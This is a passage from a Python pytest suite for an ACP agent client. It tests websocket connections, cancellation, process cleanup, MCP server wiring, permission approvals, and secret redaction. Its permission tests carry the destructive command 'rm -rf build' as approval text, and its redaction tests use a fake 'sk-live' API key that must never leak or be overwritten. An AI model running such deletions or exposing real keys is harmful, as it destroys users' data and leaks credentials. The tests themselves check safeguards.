        read = ended(ask("served", f"read {workdir / 'leak.txt'}", approve=True))
    assert agent.name == "scripted"
    assert (first.status, first.text, first.connection) == (
        "completed",
        "prompts in this session: 1",
        "served",
    )
    assert second.text == "prompts in this session: 2" and second.thread_id == first.thread_id
    assert asked.text == "permission: yes"
    assert read.text.startswith("read: the key is ") and "sk-live" not in read.text


def test_stop_reaches_an_agent_served_over_websocket(served_url: str) -> None:
    with acp_connection("served", base_url=served_url):
        handle = ask("served", "slow")
        until(lambda: "w2" in handle.run.text, "the slow stream streams")
        handle.cancel()
        stopped = ended(handle)
        after = ended(ask("served", "count", continue_thread=True))
    assert stopped.status == "cancelled" and stopped.text.startswith("w0 w1 w2")
    assert after.text == "prompts in this session: 2"  # the agent ended the turn


@pytest.mark.parametrize(
    ("options", "match"),
    [
        ({"base_url": "ftp://127.0.0.1/acp"}, "ws://, wss://, http:// or https://"),
        ({"base_url": "ws://127.0.0.1:9/acp", "command": ["x"]}, "not both"),
        ({"base_url": "ws://127.0.0.1:9/acp", "env": {"A": "b"}}, "its own environment"),
    ],
)
def test_bad_urls_of_a_served_agent_fail_at_connect(options: dict[str, object], match: str) -> None:
    with pytest.raises(ConfigurationError, match=match):
        AgentClient("acp", **options)  # type: ignore[arg-type]


def test_a_url_where_no_agent_listens_fails_saying_so() -> None:
    client = AgentClient("acp", base_url=f"ws://127.0.0.1:{free_port()}/acp")
    with client, pytest.raises(agentnb.TransportError, match=r"cannot reach ws://127\.0\.0\.1"):
        client.run("agent", "hi")


# ---- no orphans ----------------------------------------------------------------------------------------
def test_closing_the_connection_ends_the_agents_whole_process_group(scripted: str) -> None:
    child = int(ended(ask(scripted, "child")).text.split()[-1])
    assert not process_ended(child)
    disconnect(scripted)
    until(lambda: process_ended(child), "the agent's child is ended with the connection")


# ---- evaluation: ACP agents as arms, each on its own connection ---------------------------------
def test_an_experiment_compares_two_acp_agents_each_on_its_own_connection(
    acp_python: Path, workdir: Path
) -> None:
    with (
        acp_connection("alpha", [acp_python, SCRIPTED], cwd=workdir),
        acp_connection("beta", [sys.executable, AGENTS / "raw_agent.py"]),
    ):
        name = f"acp-arms-{workdir.name}"
        done = evals.experiment(name, ["alpha", "beta"], ["think", "hello"], progress=False)
        cost = evals.experiment(name).run("think", "alpha")
    by_pair = {(r.message, r.connection): r for r in done.runs()}
    assert {(m, c): r.answer for (m, c), r in by_pair.items()} == {
        ("think", "alpha"): "thought it through",
        ("think", "beta"): "raw: think",
        ("hello", "alpha"): "echo: hello",
        ("hello", "beta"): "raw: hello",
    }
    assert all(r.provider == "acp" and r.status == "completed" for r in by_pair.values())
    assert cost.agent == "alpha" and cost.reasoning == "pondering"


def test_a_batch_of_two_acp_agents_runs_each_on_its_own_connection(acp_python: Path) -> None:
    with (
        acp_connection("gamma", [acp_python, SCRIPTED]),
        acp_connection("delta", [sys.executable, AGENTS / "raw_agent.py"]),
    ):
        ran = agentnb.batch(["gamma", "delta"], ["hi"], progress=False)
    assert sorted((r.connection, r.answer) for r in ran) == [
        ("delta", "raw: hi"),
        ("gamma", "echo: hi"),
    ]


def test_agentnb_run_reaches_an_acp_agent_the_environment_names(tmp_path: Path) -> None:
    raw = [sys.executable, AGENTS / "raw_agent.py"]
    ran = agentnb_run("raw", raw, tmp_path / "history.db", "from", "the", "shell", "--plain")
    assert ran.returncode == 0, ran.stderr
    assert "raw: from the shell" in ran.stdout


def test_always_for_one_call_approves_that_call_alone(scripted: str) -> None:
    handle = ask(scripted, "permission")
    until(lambda: handle.run.status == "paused", "the run pauses for the permission")
    [call] = handle.run.awaiting_approval
    assert call.approval is not None
    assert call.approval.for_run == "Run rm -rf build, for the rest of the ACP session"
    handle.approve(call.call_id, for_run=True)
    assert ended(handle).text == "permission: always"


def test_an_agent_killed_while_a_permission_waits_fails_the_run_saying_so(scripted: str) -> None:
    handle = ask(scripted, "permission")
    until(lambda: handle.run.status == "paused", "the run pauses for the permission")
    transport = agentnb.connections()[scripted].client().transport
    os.kill(transport._agent.wire.process.pid, signal.SIGKILL)  # type: ignore[attr-defined]
    until(lambda: transport._agent is None, "the agent's end is seen")  # type: ignore[attr-defined]
    handle.approve(handle.run.awaiting_approval[0].call_id)
    with pytest.raises(RunFailedError, match="exited mid-turn with status -9"):
        handle.wait(PATIENCE_S)


def test_turns_of_many_sessions_run_at_once_on_one_agent(scripted: str) -> None:
    ran = agentnb.batch(scripted, ["think", "count", "env SCRIPTED_GREETING"], progress=False)
    assert [r.answer for r in ran] == [
        "thought it through",
        "prompts in this session: 1",
        "SCRIPTED_GREETING=hello from env",
    ]
    assert len({r.thread_id for r in ran}) == 3


def test_a_write_back_of_a_redacted_secret_is_refused_and_the_secret_kept(
    scripted: str, workdir: Path
) -> None:
    leak = workdir / "leak.txt"
    read = ended(ask(scripted, f"read {leak}", approve=True)).text.removeprefix("read: ")
    assert "sk-live" not in read
    run = ended(ask(scripted, f"write {leak} {read.strip()} and more", approve=True))
    assert run.text.startswith("write refused:") and "replace a secret" in run.text
    assert "sk-live-0123456789abcdef0123456789" in leak.read_text()


@pytest.mark.parametrize("written", ["The KEY is *** here, reformatted", "key=***"])
def test_a_write_putting_the_redaction_mark_where_a_secret_was_is_refused_however_formatted(
    scripted: str, workdir: Path, written: str
) -> None:
    leak = workdir / "leak.txt"
    run = ended(ask(scripted, f"write {leak} {written}", approve=True))
    assert run.text.startswith("write refused:") and "replace a secret" in run.text
    assert "sk-live-0123456789abcdef0123456789" in leak.read_text()


def test_mcp_servers_given_in_extra_reach_the_new_session(scripted: str) -> None:
    server = {"type": "http", "name": "docs", "url": "http://127.0.0.1:9/mcp", "headers": []}
    run = ended(ask(scripted, "mcp", extra={"mcpServers": [server]}))
    assert run.text == "mcp servers: ['docs']"
    with pytest.raises(ConfigurationError, match="list of MCP servers"):
        ask(scripted, "mcp", extra={"mcpServers": "docs"}).wait(PATIENCE_S)


def test_mcp_tools_reach_the_new_session_as_its_mcp_servers(scripted: str, tmp_path: Path) -> None:
    """``tools=agentnb.mcp_tools(...)`` on an ACP agent: the server itself goes in
    ``session/new``'s ``mcpServers`` (the agent starts and calls it), a stdio server with its
    command, arguments and ``env=``, a Streamable HTTP one with its URL and headers."""
    notes = tmp_path / "notes.txt"
    command = [sys.executable, str(NOTES_SERVER), str(notes)]
    with agentnb.mcp_tools(command=command, env={"NOTES_MOOD": "calm"}) as tools:
        run = ended(ask(scripted, "mcpjson", tools=tools))
        [entry] = json.loads(run.text)
        assert entry == {
            "name": "notes",
            "command": sys.executable,
            "args": [str(NOTES_SERVER), str(notes)],
            "env": [{"name": "NOTES_MOOD", "value": "calm", "field_meta": None}],
            "field_meta": None,
        }
        with_extra = ask(
            scripted,
            "mcp",
            tools=tools,
            extra={
                "mcpServers": [
                    {"type": "http", "name": "docs", "url": "http://127.0.0.1:9/mcp", "headers": []}
                ]
            },
        )
        assert ended(with_extra).text == "mcp servers: ['docs', 'notes']"
    with (
        agentnb.mcp_tools(command=command, cwd=tmp_path) as tools,
        pytest.raises(ConfigurationError, match=r"cwd=.*an ACP agent"),
    ):
        ask(scripted, "mcp", tools=tools)
    with (
        agentnb.mcp_tools(command=command) as tools,
        pytest.raises(ConfigurationError, match="cannot send tools"),
    ):
        ask(scripted, "mcp", tools=[*tools])  # its tools as functions: not for ACP


def test_mcp_tools_reach_the_session_from_every_entry_point(scripted: str, tmp_path: Path) -> None:
    """``ask``, a chat's turns and ``batch`` (and the experiments sent through it) fit
    ``tools=mcp_tools(...)`` to an ACP agent in one place (``Connection._fit_tools``): each
    turn's session gets the server, whatever started it."""
    command = [sys.executable, str(NOTES_SERVER), str(tmp_path / "notes.txt")]
    with agentnb.mcp_tools(command=command) as tools:
        asked = ended(ask(scripted, "mcp", tools=tools)).text
        cell = agentnb.chat(scripted, tools=tools)
        try:
            chatted = cell.ask("mcp").wait(PATIENCE_S).text
        finally:
            cell.close()
        [batched] = agentnb.batch(scripted, ["mcp"], tools=tools, progress=False)
        [variant] = agentnb.batch(scripted, ["mcp"], variants=[{"tools": tools}], progress=False)
    assert asked == chatted == batched.answer == variant.answer == "mcp servers: ['notes']"


def test_stop_while_a_permission_waits_cancels_it_and_the_session_goes_on(scripted: str) -> None:
    handle = ask(scripted, "permission")
    until(lambda: handle.run.status == "paused", "the run pauses for the permission")
    handle.cancel()
    run = ended(handle)
    assert run.status == "cancelled" and run.run_id is not None
    assert run.run_id.startswith(f"{run.thread_id}:")
    after = ended(ask(scripted, "count", continue_thread=True))  # the agent heard "cancelled"
    assert (after.status, after.text) == ("completed", "prompts in this session: 2")


def test_closing_the_connection_mid_turn_ends_the_agent_and_the_turn(scripted: str) -> None:
    handle = ask(scripted, "slow")
    until(lambda: "w2" in handle.run.text, "the slow stream streams")
    pid = agentnb.connections()[scripted].client().transport._agent.wire.process.pid  # type: ignore[attr-defined]
    disconnect(scripted)
    until(lambda: process_ended(pid), "the agent is ended with its connection")
    run = ended(handle)
    assert run.status in ("failed", "interrupted") and run.text.startswith("w0 w1 w2")


def test_the_option_a_decision_chooses_never_grants_more_than_was_decided() -> None:
    only_always = [
        {"optionId": "a", "kind": "allow_always"},
        {"optionId": "r", "kind": "reject_always"},
    ]
    assert answer_to_permission(only_always, ApprovalDecision("c", True)) == {
        "outcome": {"outcome": "cancelled"}
    }
    assert answer_to_permission(only_always, ApprovalDecision("c", True, for_run=True)) == {
        "outcome": {"outcome": "selected", "optionId": "a"}
    }
    assert answer_to_permission(only_always, ApprovalDecision("c", False)) == {
        "outcome": {"outcome": "selected", "optionId": "r"}
    }
